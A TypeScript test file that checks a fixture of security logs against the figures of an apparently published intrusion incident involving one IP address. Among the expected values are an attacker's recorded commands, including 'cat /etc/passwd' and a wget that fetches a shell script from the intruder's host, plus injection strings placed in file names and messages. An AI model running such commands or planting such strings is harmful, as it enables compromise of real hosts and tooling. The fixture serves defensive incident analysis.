import { describe, expect, test } from "vitest";
import { hits, records, total } from "./workspace.ts";

const intruder = "23.97.60.214";

describe("the first incident holds exactly the published figures", () => {
  test("118 rows in 8 tables on 17 and 18 February", () => {
    const found = hits(intruder, "2019-02-17", "2019-02-19");
    expect(found).toEqual({
      AzureNetworkAnalytics_CL: 90,
      SecurityAlert: 14,
      AuditLog_CL: 7,
      SSHAlertDataV2_CL: 3,
      SecurityDetection: 1,
      AzureActivity: 1,
      Syslog: 1,
      BYOThreatIntelv1_CL: 1,
    });
    expect(total(found)).toBe(118);
  });

  test("207 rows in 10 tables in the week", () => {
    const found = hits(intruder, "2019-02-12", "2019-02-19");
    expect(found).toEqual({
      AzureNetworkAnalytics_CL: 101,
      OfficeActivity: 76,
      SecurityAlert: 14,
      AuditLog_CL: 7,
      SSHAlertDataV2_CL: 3,
      SecurityEvent: 2,
      SecurityDetection: 1,
      AzureActivity: 1,
      Syslog: 1,
      BYOThreatIntelv1_CL: 1,
    });
    expect(total(found)).toBe(207);
  });

  test.each(["185.49.71.101", "47.91.56.21", "103.225.168.159", "31.148.220.53", "89.34.111.113", "185.162.131.92"])(
    "%s of the report is nowhere",
    (address) => {
      expect(hits(address, "2000-01-01", "2100-01-01")).toEqual({});
    },
  );

  test("the decoys are there, and none of them counts", () => {
    const everything = JSON.stringify(records("Syslog")) + JSON.stringify(records("AuditLog_CL"));
    for (const decoy of ["23.97.60.21 ", "23.97.60.2140", "123.97.60.214", "v23.97.60.214-beta"]) {
      expect(everything).toContain(decoy);
    }
    for (const [decoy, date] of [
      ["1.23.97.60.214", "2019-02-15"],
      ["23.97.60.214.5", "2019-02-15"],
    ] as const) {
      const days = records("Syslog").filter((row) => String(row["SyslogMessage"]).includes(` ${decoy}`));
      expect(days.map((row) => (row["TimeGenerated"] as Date).toISOString().slice(0, 10))).toEqual([date]);
    }
  });

  test("an IPv6 address is there in both spellings", () => {
    const found = hits("2001:db8:77::2b", "2019-02-12", "2019-02-19");
    expect(found).toEqual({ Syslog: 1, SecurityEvent: 1 });
  });

  test("hostile words stand in file names and messages", () => {
    const files = records("OfficeActivity").map((row) => String(row["SourceFileName"]));
    const messages = records("Syslog").map((row) => String(row["SyslogMessage"]));
    for (const word of ["<!channel>", "</script>", "[label](http://x)", "\u202E"]) {
      expect(files.some((file) => file.includes(word))).toBe(true);
      expect(messages.some((message) => message.includes(word))).toBe(true);
    }
  });
});

describe("the alerts", () => {
  const published = records("SecurityAlert").filter(
    (row) => (row["TimeGenerated"] as Date) >= new Date("2019-02-17T00:00:00Z"),
  );
  const naming = published.filter((row) => JSON.stringify(row).includes(intruder));

  test("19 are listed for 17 and 18 February: 18 anomalies and one download", () => {
    const names = published.map((row) => row["AlertName"]);
    expect(names.filter((name) => name === "SSH Anomalous Login ML")).toHaveLength(18);
    expect(names.filter((name) => name === "Detected suspicious file download")).toHaveLength(1);
    expect(names).toHaveLength(19);
  });

  test("14 distinct ones name the address: 13 anomalies and the download", () => {
    expect(new Set(naming.map((row) => row["SystemAlertId"])).size).toBe(14);
    expect(naming.filter((row) => row["AlertSeverity"] === "Medium")).toHaveLength(13);
  });

  test("the anomalies begin on 16 Feb 23:24:02 and end with that of 18 Feb 16:39:21; two began on the 16th", () => {
    const starts = published
      .filter((row) => row["AlertName"] === "SSH Anomalous Login ML")
      .map((row) => (row["StartTime"] as Date).toISOString())
      .sort();
    expect(starts[0]).toBe("2019-02-16T23:24:02.000Z");
    expect(starts.at(-1)).toBe("2019-02-18T16:39:21.000Z");
    expect(starts.filter((start) => start < "2019-02-17")).toHaveLength(2);
  });

  test("the download names it in a process's command line alone", () => {
    const [download] = published.filter((row) => row["AlertName"] === "Detected suspicious file download");
    expect(download).toMatchObject({ AlertSeverity: "Low", CompromisedEntity: "MSTICALERTSLXVM2" });
    const { Entities, ...rest } = download as Record<string, unknown>;
    expect(JSON.stringify(rest)).not.toContain(intruder);
    const entities = JSON.parse(String(Entities)) as Record<string, unknown>[];
    expect(entities.map((entity) => entity["Type"]).sort()).toEqual([
      "account",
      "file",
      "host",
      "host-logon-session",
      "process",
    ]);
    const places = entities.flatMap((entity) =>
      Object.entries(entity).flatMap(([key, value]) => (JSON.stringify(value).includes(intruder) ? [key] : [])),
    );
    expect(places).toEqual(["CommandLine"]);
    const process = entities.find((entity) => entity["Type"] === "process");
    expect(process?.["CommandLine"]).toBe("wget http://23.97.60.214/QuZYpObins.sh -t 3 -T 5");
  });

  test("every reference between entities points at one of the same alert", () => {
    for (const row of records("SecurityAlert")) {
      const entities = JSON.parse(String(row["Entities"])) as Record<string, unknown>[];
      const ids = new Set(entities.map((entity) => entity["$id"]));
      const references = [...String(row["Entities"]).matchAll(/"\$ref":"(\d+)"/g)].map((match) => match[1]);
      expect(references.filter((reference) => !ids.has(reference))).toEqual([]);
    }
  });

  test("incident 1174 holds the download and the anomalies, and names no address", () => {
    const [incident] = records("SecurityIncident").filter((row) => row["IncidentNumber"] === 1174);
    expect(incident).toMatchObject({ Severity: "Low", Status: "New", Owner: { assignedTo: null } });
    const ids = naming.map((row) => row["SystemAlertId"]).sort();
    expect([...(incident!["AlertIds"] as string[])].sort()).toEqual(ids);
    expect(JSON.stringify(incident)).not.toMatch(/\d+\.\d+\.\d+\.\d+/);
  });
});

describe("the story can be read in the rows", () => {
  const office = records("OfficeActivity").filter((row) => String(row["ClientIP"]).startsWith(intruder));
  const session = records("AuditLog_CL").filter((row) => row["Session_s"] === "196045");

  test("the mailbox and the files, all between 03:43 and 03:48", () => {
    const operations = Object.fromEntries(
      [...new Set(office.map((row) => String(row["Operation"])))].map((name) => [
        name,
        office.filter((row) => row["Operation"] === name).length,
      ]),
    );
    expect(operations).toEqual({
      FileDownloaded: 47,
      UserLoggedIn: 17,
      UserLoginFailed: 3,
      FileAccessed: 4,
      FilePreviewed: 3,
      PageViewed: 1,
      "Set-Mailbox": 1,
    });
    for (const row of office) {
      const time = (row["TimeGenerated"] as Date).toISOString();
      expect(time >= "2019-02-16T03:43" && time < "2019-02-16T03:49").toBe(true);
    }
    expect(office.filter((row) => row["ClientIP"] === "23.97.60.214:10811").map((row) => row["Operation"])).toEqual([
      "Set-Mailbox",
    ]);
  });

  test("the session on the Linux host: login, seven commands, logout", () => {
    expect(session.map((row) => row["RecordType_s"])).toEqual([
      "USER_ACCT",
      "CRED_ACQ",
      "USER_START",
      "USER_START",
      ...Array.from({ length: 7 }, () => "EXECVE"),
      "USER_END",
      "CRED_DISP",
    ]);
    const commands = session.filter((row) => row["RecordType_s"] === "EXECVE").map((row) => row["Command_s"]);
    expect(commands).toEqual([
      "uname -a",
      "lscpu",
      "ifconfig",
      "cat /etc/passwd",
      "wget http://23.97.60.214/QuZYpObins.sh -t 3 -T 5",
      "chmod 777 QuZYpObins.sh",
      "crontab -l",
    ]);
  });

  test("two Windows logons of ian", () => {
    const logons = records("SecurityEvent").filter((row) => row["IpAddress"] === intruder);
    expect(logons.map((row) => [(row["TimeGenerated"] as Date).toISOString(), row["LogonType"]])).toEqual([
      ["2019-02-16T03:24:41.980Z", 3],
      ["2019-02-16T03:24:49.500Z", 10],
    ]);
    expect(new Set(logons.map((row) => row["TargetUserName"]))).toEqual(new Set(["ian"]));
  });

  test("the flows of 16 February and of the login", () => {
    const flows = records("AzureNetworkAnalytics_CL").filter((row) =>
      [row["SrcPublicIPs_s"], row["DestPublicIPs_s"]].some((list) => String(list).startsWith(`${intruder}|`)),
    );
    const when = (row: Record<string, unknown>) => (row["TimeGenerated"] as Date).toISOString();
    const kinds = flows
      .filter((row) => when(row) < "2019-02-17")
      .map((row) => `${when(row).slice(11, 16)} ${row["L7Protocol_s"]} ${row["FlowDirection_s"]}`);
    expect(kinds).toEqual([
      "03:07 rdp I",
      "03:15 rdp I",
      "03:22 ssh I",
      "03:24 rdp I",
      "03:51 http O",
      "04:35 ssh I",
      "07:35 ssh I",
      "10:35 ssh I",
      "13:35 ssh I",
      "16:35 ssh I",
      "19:35 ssh I",
    ]);
    expect(flows.slice(-2).map((row) => `${when(row)} ${row["L7Protocol_s"]} ${row["FlowDirection_s"]}`)).toEqual([
      "2019-02-18T15:29:18.000Z ssh I",
      "2019-02-18T15:29:22.000Z http O",
    ]);
  });

  test("both hosts can be recognised as ours by either address", () => {
    const known = new Map(records("Heartbeat").map((row) => [row["ComputerIP"], row["Computer"]]));
    expect(Object.fromEntries(known)).toEqual({
      "104.211.30.1": "MSTICALERTSLXVM2",
      "40.76.43.124": "msticalertswin1",
    });
    const interfaces = records("AzureNetworkAnalytics_CL").filter((row) => row["ResourceType"] === "NetworkInterface");
    expect(new Set(interfaces.map((row) => row["PrivateIPAddresses_s"]))).toEqual(new Set(["10.0.3.4", "10.0.3.5"]));
  });

  test("the workspace's own indicator had run out before the first row", () => {
    expect(records("BYOThreatIntelv1_CL")).toMatchObject([
      {
        NetworkIP_s: intruder,
        ThreatType_s: "Botnet",
        Active_b: true,
        TrafficLightProtocolLevel_s: "Green",
        ConfidenceScore_d: 0,
        ThreatSeverity_d: 0,
        ExpirationDateTime_t: new Date("2019-02-07T00:00:00Z"),
      },
    ]);
  });
});
